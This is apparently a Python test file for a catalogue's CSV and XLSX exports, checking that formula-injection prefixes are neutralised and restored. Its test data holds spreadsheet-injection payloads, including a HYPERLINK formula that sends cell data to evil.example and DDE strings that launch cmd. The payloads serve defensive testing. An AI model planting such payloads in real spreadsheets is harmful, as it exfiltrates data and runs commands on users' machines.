"""Issue 10, finding 13 (outputs): no CSV or XLSX the catalogue writes runs a formula in a spreadsheet.

CSV texts starting with = + - @ tab or CR get a leading quote (OWASP), the template reader takes it
off again so an exported template imports back unchanged; XLSX data cells are strings, never formulas.
"""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
from openpyxl import load_workbook

from catalogue.audit import service as audit
from catalogue.principal import SYSTEM
from catalogue.spreadsheet import csvsafe
from catalogue.spreadsheet.reader import csv_lines, xlsx_lines
from catalogue.spreadsheet.template import csv_text, xlsx_bytes
from schemas.dataset import DatasetDescription
from tests.conftest import corpus_records

DANGEROUS = ['=HYPERLINK("https://evil.example/?d="&A1,"clic")', "+33 1 23 45 67 89", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''+twice"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_prefix_is_neutralised_and_restored(value):
    written = csvsafe.cell(value)
    assert written.startswith("'") and written[1:] == value
    assert csvsafe.restore(written) == value


@pytest.mark.parametrize("value", ["plain", "'quoted text", "O'Brien", "", "2020-01-01", "a=b", "—=x"])
def test_plain_text_is_left_alone(value):
    assert csvsafe.cell(value) == value and csvsafe.restore(value) == value


def test_numbers_stay_numbers():
    assert csvsafe.row([-5, 3.5, None, True, "-5"]) == [-5, 3.5, None, True, "'-5"]


def _dangerous_record() -> dict:
    record = copy.deepcopy(corpus_records()[0])
    record["title"] = {"fr": DANGEROUS[0], "en": DANGEROUS[3]}
    record["contact"]["name"] = DANGEROUS[1]
    record["keywords"] = {"fr": [DANGEROUS[2], "@home", "=x"]}
    record["access"]["platform"] = "'=already quoted"
    return record


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_csv_template_holds_no_formula_and_imports_back_unchanged():
    record = _dangerous_record()
    text = csv_text([record])
    assert not [c for c in _cells(text) if c[:1] in tuple("=+-@\t\r")]
    assert "'" + DANGEROUS[0] in _cells(text) and "''=already quoted" in _cells(text)
    back = DatasetDescription.model_validate(json.loads(csv_lines(text)[1])).to_record()
    assert back["title"] == record["title"] and back["contact"]["name"] == DANGEROUS[1]
    assert back["keywords"] == record["keywords"] and back["access"]["platform"] == "'=already quoted"


def test_the_xlsx_template_writes_data_as_text_not_formulas():
    record = _dangerous_record()
    data = xlsx_bytes([record])
    sheet = load_workbook(io.BytesIO(data))["Descriptions"]
    kinds = {cell.value: cell.data_type for cell in sheet[2] if isinstance(cell.value, str)}
    assert kinds[DANGEROUS[0]] == "s" and kinds[DANGEROUS[3]] == "s"
    assert "f" not in kinds.values()
    back = DatasetDescription.model_validate(json.loads(xlsx_lines(data)[1])).to_record()
    assert back["title"] == record["title"] and back["keywords"] == record["keywords"]


def test_the_audit_csv_export_holds_no_formula(container):
    with container.uow() as uow:
        audit.record(uow, SYSTEM, "test.csv", "dataset", "=1+1", reason=DANGEROUS[0])
        uow.commit()
    text = "".join(audit.export(container.uow, SYSTEM, "csv"))
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["action"] == "test.csv")
    assert row["subject_id"] == "'=1+1" and row["reason"] == "'" + DANGEROUS[0]
    assert not [c for c in _cells(text) if c[:1] in tuple("=+-@\t\r")]
